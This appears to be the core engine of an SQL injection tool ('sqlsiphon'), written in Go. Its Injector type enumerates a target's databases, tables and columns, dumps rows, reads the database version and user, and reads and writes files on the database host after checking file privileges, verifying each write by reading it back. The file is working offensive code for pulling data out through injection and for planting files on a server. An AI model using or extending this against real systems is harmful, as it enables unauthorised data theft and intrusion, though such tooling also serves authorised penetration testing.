package engine

import (
	"context"
	"errors"
	"fmt"
	"iter"
	"strings"

	"github.com/0x6d61/sqlsiphon/internal/dialect"
	"github.com/0x6d61/sqlsiphon/internal/extract"
	"github.com/0x6d61/sqlsiphon/internal/payload"
	"github.com/0x6d61/sqlsiphon/internal/session"
	"github.com/0x6d61/sqlsiphon/internal/strategy"
)

// listing streams the entries of a paginated listing. render returns the
// listing resumed at an offset. A listing is read again after the entries
// seen so far while its last row was cut short, or while fewer than
// expected entries came back; weight gives what an entry counts for.
func (in *Injector) listing(ctx context.Context, s *Session, op string, render func(offset int) (string, error), expected int, weight func(extract.Entry) int) iter.Seq2[extract.Entry, error] {
	return func(yield func(extract.Entry, error) bool) {
		dec := extract.DecoderFor(s.Builder)
		emitted, seen := 0, 0
		fail := func(err error) {
			err = &PartialError{Op: op, Emitted: emitted, Err: err}
			in.emitError(err)
			yield(extract.Entry{}, err)
		}

		for {
			q, err := render(emitted)
			if err != nil {
				fail(err)
				return
			}
			value, terminated, err := in.value(ctx, s, q)
			if err != nil {
				fail(err)
				return
			}
			if !terminated {
				fail(ErrTruncated)
				return
			}
			entries, closed := dec.Decode(value)
			for _, e := range entries {
				if !yield(e, nil) {
					return
				}
				emitted++
				if weight != nil {
					seen += weight(e)
				} else {
					seen++
				}
			}

			more := !closed || (expected > 0 && seen < expected)
			if !more {
				return
			}
			if len(entries) == 0 {
				if !closed {
					fail(ErrTruncated)
				}
				// catalog counts can overestimate
				return
			}
			in.logger.Debug("listing continued", "op", op, "offset", emitted)
		}
	}
}

// ListDatabases streams the databases of the target.
func (in *Injector) ListDatabases(ctx context.Context) iter.Seq2[Database, error] {
	return func(yield func(Database, error) bool) {
		s, err := in.session()
		if err != nil {
			yield(Database{}, err)
			return
		}
		for e, err := range in.listing(ctx, s, "list databases", s.Builder.Databases, 0, nil) {
			if err != nil {
				yield(Database{}, err)
				return
			}
			db := Database{Name: e.Value, TableCount: e.Count}
			in.emit(func(o Observer) { o.OnDatabaseFound(db) })
			in.record(s, session.Record{Kind: session.KindDatabase, Value: db.Name, Count: db.TableCount})
			if !yield(db, nil) {
				return
			}
		}
	}
}

// ListTables streams the tables of db.
func (in *Injector) ListTables(ctx context.Context, db Database) iter.Seq2[Table, error] {
	return func(yield func(Table, error) bool) {
		s, err := in.session()
		if err != nil {
			yield(Table{}, err)
			return
		}
		render := func(offset int) (string, error) { return s.Builder.Tables(db.Name, offset) }
		for e, err := range in.listing(ctx, s, "list tables of "+db.Name, render, db.TableCount, nil) {
			if err != nil {
				yield(Table{}, err)
				return
			}
			t := Table{Database: db.Name, Name: e.Value, RowCount: e.Count}
			in.emit(func(o Observer) { o.OnTableFound(t) })
			in.record(s, session.Record{Kind: session.KindTable, Database: t.Database, Value: t.Name, Count: t.RowCount})
			if !yield(t, nil) {
				return
			}
		}
	}
}

// ListColumns streams the columns of t.
func (in *Injector) ListColumns(ctx context.Context, t Table) iter.Seq2[Column, error] {
	return func(yield func(Column, error) bool) {
		s, err := in.session()
		if err != nil {
			yield(Column{}, err)
			return
		}
		for c, err := range in.listColumns(ctx, s, t) {
			if !yield(c, err) || err != nil {
				return
			}
		}
	}
}

func (in *Injector) listColumns(ctx context.Context, s *Session, t Table) iter.Seq2[Column, error] {
	return func(yield func(Column, error) bool) {
		render := func(offset int) (string, error) { return s.Builder.Columns(t.Database, t.Name, offset) }
		for e, err := range in.listing(ctx, s, "list columns of "+t.Database+"."+t.Name, render, 0, nil) {
			if err != nil {
				yield(Column{}, err)
				return
			}
			c := Column{Database: t.Database, Table: t.Name, Name: e.Value}
			in.emit(func(o Observer) { o.OnColumnFound(c) })
			in.record(s, session.Record{Kind: session.KindColumn, Database: c.Database, Table: c.Table, Value: c.Name})
			if !yield(c, nil) {
				return
			}
		}
	}
}

// ReadRows streams the distinct rows of t over columns, in column order.
func (in *Injector) ReadRows(ctx context.Context, t Table, columns []Column) iter.Seq2[Row, error] {
	return func(yield func(Row, error) bool) {
		s, err := in.session()
		if err != nil {
			yield(Row{}, err)
			return
		}
		names := make([]string, len(columns))
		for i, c := range columns {
			names[i] = c.Name
		}
		for r, err := range in.readRows(ctx, s, t, names) {
			if !yield(r, err) || err != nil {
				return
			}
		}
	}
}

func (in *Injector) readRows(ctx context.Context, s *Session, t Table, columns []string) iter.Seq2[Row, error] {
	return func(yield func(Row, error) bool) {
		render := func(offset int) (string, error) { return s.Builder.Rows(t.Database, t.Name, columns, offset) }
		count := func(e extract.Entry) int { return max(e.Count, 1) }
		null := s.Builder.Atom(dialect.NullSQL)

		for e, err := range in.listing(ctx, s, "read rows of "+t.Database+"."+t.Name, render, t.RowCount, count) {
			if err != nil {
				yield(Row{}, err)
				return
			}
			values := make([]string, len(e.Cells))
			for i, c := range e.Cells {
				if c != null {
					values[i] = c
				}
			}
			r := Row{Database: t.Database, Table: t.Name, Columns: columns, Values: values, Count: e.Count}
			in.emit(func(o Observer) { o.OnRowValue(r) })
			in.record(s, session.Record{Kind: session.KindRow, Database: r.Database, Table: r.Table, Value: e.Value, Cells: values, Count: r.Count})
			if !yield(r, nil) {
				return
			}
		}
	}
}

// Info reads the version, current database and user of the target.
func (in *Injector) Info(ctx context.Context) (*Info, error) {
	s, err := in.session()
	if err != nil {
		return nil, err
	}
	q, err := s.Builder.Info()
	if err != nil {
		return nil, err
	}
	value, terminated, err := in.value(ctx, s, q)
	if err != nil {
		in.emitError(err)
		return nil, err
	}
	if !terminated {
		err := fmt.Errorf("info: %w", ErrTruncated)
		in.emitError(err)
		return nil, err
	}

	cells := extract.DecoderFor(s.Builder).Cells(value)
	cells = append(cells, "", "", "")
	info := Info{Version: cells[0], Database: cells[1], User: cells[2]}
	in.emit(func(o Observer) { o.OnInfo(info) })
	in.record(s, session.Record{Kind: session.KindInfo, Value: value, Cells: cells[:3]})
	return &info, nil
}

// ReadFile streams the content of path on the database host, in chunks of
// at most the strategy capacity. The user's file privilege is checked
// first when the dialect can test it.
func (in *Injector) ReadFile(ctx context.Context, path string) iter.Seq2[string, error] {
	return func(yield func(string, error) bool) {
		s, err := in.session()
		if err != nil {
			yield("", err)
			return
		}
		if err := in.checkPrivilege(ctx, s); err != nil {
			in.emitError(err)
			yield("", err)
			return
		}
		q, err := s.Builder.FileRead(path)
		if err != nil {
			yield("", err)
			return
		}
		r, page, err := in.pager(s, q)
		if err != nil {
			yield("", err)
			return
		}

		emitted := 0
		s.Cursor.Reset()
		for chunk, err := range r.Chunks(ctx, &s.Cursor, page) {
			if err != nil {
				err = &PartialError{Op: "read file " + path, Emitted: emitted, Err: err}
				in.emitError(err)
				yield("", err)
				return
			}
			if !yield(chunk, nil) {
				return
			}
			emitted += len(chunk)
		}
	}
}

// WriteFile writes content to path on the database host through the
// visible index of the union strategy, then reads it back when the
// dialect can read files.
func (in *Injector) WriteFile(ctx context.Context, path, content string) error {
	s, err := in.session()
	if err != nil {
		return err
	}
	if s.Strategy.Kind != strategy.Normal || s.Calibration == nil {
		return fmt.Errorf("write file with %s strategy: %w", s.Strategy.Kind, ErrNeedsNormal)
	}
	if err := in.checkPrivilege(ctx, s); err != nil {
		return err
	}
	q, err := s.Builder.FileWrite(content, path, s.Calibration.Query, s.Calibration.Best)
	if err != nil {
		return err
	}
	if _, err := extract.Retry(ctx, in.cfg.Retries, func() (struct{}, error) {
		_, err := in.prober.Probe(ctx, q)
		return struct{}{}, err
	}); err != nil {
		return fmt.Errorf("write file %s: %w", path, err)
	}
	in.logger.Info("file written", "path", path, "bytes", len(content))

	var got strings.Builder
	for chunk, err := range in.ReadFile(ctx, path) {
		if errors.Is(err, payload.ErrUnsupported) {
			return nil
		}
		if err != nil {
			return fmt.Errorf("verify %s: %w", path, err)
		}
		got.WriteString(chunk)
	}
	if got.String() != content {
		return fmt.Errorf("verify %s: %w", path, ErrWriteUnverified)
	}
	return nil
}

// checkPrivilege fails with ErrNoPrivilege when the dialect's privilege
// test reads anything but "true". Dialects without the test pass.
func (in *Injector) checkPrivilege(ctx context.Context, s *Session) error {
	q, err := s.Builder.Privilege()
	if errors.Is(err, payload.ErrUnsupported) {
		return nil
	}
	if err != nil {
		return err
	}
	v, terminated, err := in.value(ctx, s, q)
	if err != nil {
		return fmt.Errorf("file privilege: %w", err)
	}
	if !terminated || !strings.EqualFold(strings.TrimSpace(v), "true") {
		return ErrNoPrivilege
	}
	return nil
}
